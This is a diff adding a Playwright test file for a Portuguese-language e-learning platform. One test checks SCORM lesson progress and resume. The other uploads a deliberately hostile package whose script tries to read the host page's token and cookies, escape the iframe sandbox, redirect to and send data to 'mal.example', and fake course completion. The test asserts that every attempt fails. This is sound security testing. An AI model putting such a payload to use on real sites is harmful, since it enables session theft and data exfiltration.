@@ -1,0 +1,126 @@
+import type { Page } from '@playwright/test';
+import { cursoComPacote, pacote } from './pacotes.ts';
+import { expect, expectAccessible, signIn, test } from './program.ts';
+
+const ALUNO = 'gestor@habilita.example';
+const tokenDe = (page: Page) =>
+  page.evaluate(() => (sessionStorage.getItem('token') ?? '').replaceAll('"', ''));
+
+/** A lesson of two pages in the words of SCORM 1.2: begins in one, ends in the other. */
+const DUAS_PAGINAS = {
+  'index.html': `<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><title>Lição</title></head><body>
+    <p id="estado"></p><button id="marcar">Marcar</button><a href="dir/fim.html">Ir ao fim</a>
+    <script>
+      function acharApi(w) { for (var n = 0; n < 9; n++) { if (w.API) return w.API; if (w.parent === w) return null; w = w.parent; } }
+      var api = acharApi(window);
+      api.LMSInitialize('');
+      function mostrar() {
+        document.getElementById('estado').textContent = [api.LMSGetValue('cmi.core.entry'),
+          api.LMSGetValue('cmi.core.lesson_location'), api.LMSGetValue('cmi.suspend_data')].join('|');
+      }
+      document.getElementById('marcar').onclick = function () {
+        api.LMSSetValue('cmi.core.lesson_location', 'tela-3');
+        api.LMSSetValue('cmi.suspend_data', 'açãó {"a":1}');
+        api.LMSSetValue('cmi.core.lesson_status', 'incomplete');
+        localStorage.setItem('x', '1');
+        mostrar();
+      };
+      mostrar();
+    </script></body></html>`,
+  'dir/fim.html': `<!DOCTYPE html><title>Fim</title><p id="estado"></p><button id="concluir">Concluir</button>
+    <script>
+      document.getElementById('estado').textContent = API.LMSGetValue('cmi.core.lesson_location');
+      document.getElementById('concluir').onclick = function () {
+        API.LMSSetValue('cmi.core.score.raw', '95');
+        API.LMSSetValue('cmi.core.lesson_status', 'passed');
+        API.LMSFinish('');
+      };
+    </script>`,
+};
+
+test('um pacote guarda onde a pessoa parou, atravessa páginas e recargas, e informa a conclusão', async ({
+  page,
+  program,
+  browser,
+}) => {
+  test.slow();
+  await signIn(page, 'adm@habilita.example');
+  const servico = { ...program, token: await tokenDe(page) };
+  const endereco = await cursoComPacote(servico, {
+    nome: 'Lição interativa',
+    bytes: pacote('1.2', DUAS_PAGINAS),
+    aluno: ALUNO,
+  });
+
+  const contexto = await browser.newContext({ baseURL: program.url, viewport: { width: 390, height: 800 } });
+  const aluno = await contexto.newPage();
+  await signIn(aluno, ALUNO);
+  await aluno.goto(endereco);
+  const moldura = aluno.frameLocator('iframe[title="Lição interativa"]');
+  await expect(moldura.locator('#estado')).toHaveText('ab-initio||');
+  const gravou = aluno.waitForResponse((resposta) => resposta.url().includes('scormProgresso'));
+  await moldura.getByRole('button', { name: 'Marcar' }).click();
+  await expect(moldura.locator('#estado')).toHaveText('ab-initio|tela-3|açãó {"a":1}');
+  await moldura.getByRole('link', { name: 'Ir ao fim' }).click();
+  await expect(moldura.locator('#estado')).toHaveText('tela-3');
+  await expectAccessible(aluno);
+  expect((await gravou).status()).toBe(200);
+
+  await aluno.reload();
+  await expect(moldura.locator('#estado')).toHaveText('resume|tela-3|açãó {"a":1}');
+  await moldura.getByRole('link', { name: 'Ir ao fim' }).click();
+  await moldura.getByRole('button', { name: 'Concluir' }).click();
+  // The first seconds are too few to be believed; then it counts by itself.
+  await expect(aluno.getByRole('dialog', { name: 'Curso concluído' })).toBeVisible({ timeout: 20_000 });
+  await aluno.reload();
+  await expect(aluno.getByText('Aula concluída').first()).toBeVisible();
+  await expect(moldura.locator('#estado')).toHaveText(/^resume\|tela-3/);
+  await contexto.close();
+});
+
+test('um pacote hostil não alcança a nossa página, os seus segredos nem a API', async ({ page, program }) => {
+  test.slow();
+  const hostil = {
+    'index.html': `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Hostil</title></head><body><pre id="saldo"></pre><script>
+      var saldo = [];
+      function tentar(nome, f) { try { var v = f(); saldo.push(nome + ': ' + (v === undefined || v === null || v === '' ? 'nada' : 'OBTEVE ' + v)); } catch (e) { saldo.push(nome + ': nada'); } }
+      tentar('pai', function () { return parent.document.title; });
+      tentar('topo', function () { return top.sessionStorage.length; });
+      tentar('origem', function () { return self.origin === 'null' ? '' : self.origin; });
+      tentar('cookie', function () { return document.cookie; });
+      tentar('armazenamento', function () { return sessionStorage.getItem('token') || localStorage.length || ''; });
+      tentar('navegar', function () { top.location = 'https://mal.example/'; });
+      tentar('janela', function () { return window.open('/'); });
+      tentar('moldura', function () { parent.frames[0].frameElement.removeAttribute('sandbox'); return 'sim'; });
+      function fim(nome) { return [function (r) { return r.text().then(function (t) { saldo.push(nome + ': OBTEVE ' + t); }); }, function () { saldo.push(nome + ': nada'); }]; }
+      var a = fim('api'), b = fim('fora'), c = fim('manifesto');
+      Promise.all([
+        fetch(new URL('/api/aluno/cursos', document.URL)).then(a[0], a[1]),
+        fetch('https://mal.example/?x=' + document.URL).then(b[0], b[1]),
+        fetch('dados.json').then(function (r) { return r.text(); }).then(function (t) { saldo.push('próprio: ' + t); }, function (e) { saldo.push('próprio: falhou'); })
+      ]).then(function () { document.getElementById('saldo').textContent = saldo.join('\\n'); });
+      parent.postMessage({ Cmi: { 'cmi.completion_status': 'completed' }, urgente: true }, '*');
+      parent.postMessage({ tipo: 'scorm', token: 1 }, '*');
+    </script></body></html>`,
+    'dados.json': '{"meu":1}',
+  };
+  await signIn(page, 'adm@habilita.example');
+  const servico = { ...program, token: await tokenDe(page) };
+  const bytes = pacote('2004 4th Edition', hostil);
+  const endereco = await cursoComPacote(servico, {
+    nome: 'Pacote hostil',
+    bytes,
+    aluno: 'admaluno@habilita.example',
+  });
+  const contexto = await page.context().browser()?.newContext({ baseURL: program.url });
+  if (!contexto) throw new Error('no browser');
+  const aluno = await contexto.newPage();
+  await signIn(aluno, 'admaluno@habilita.example');
+  await aluno.goto(endereco);
+  const saldo = aluno.frameLocator('iframe[title="Pacote hostil"]').locator('#saldo');
+  await expect(saldo).toContainText('próprio: {"meu":1}');
+  await expect(saldo).not.toContainText('OBTEVE');
+  await expect(aluno).toHaveURL(/curso-aluno/);
+  await expect(aluno.getByText('Aula concluída')).toHaveCount(0);
+  await contexto.close();
+});
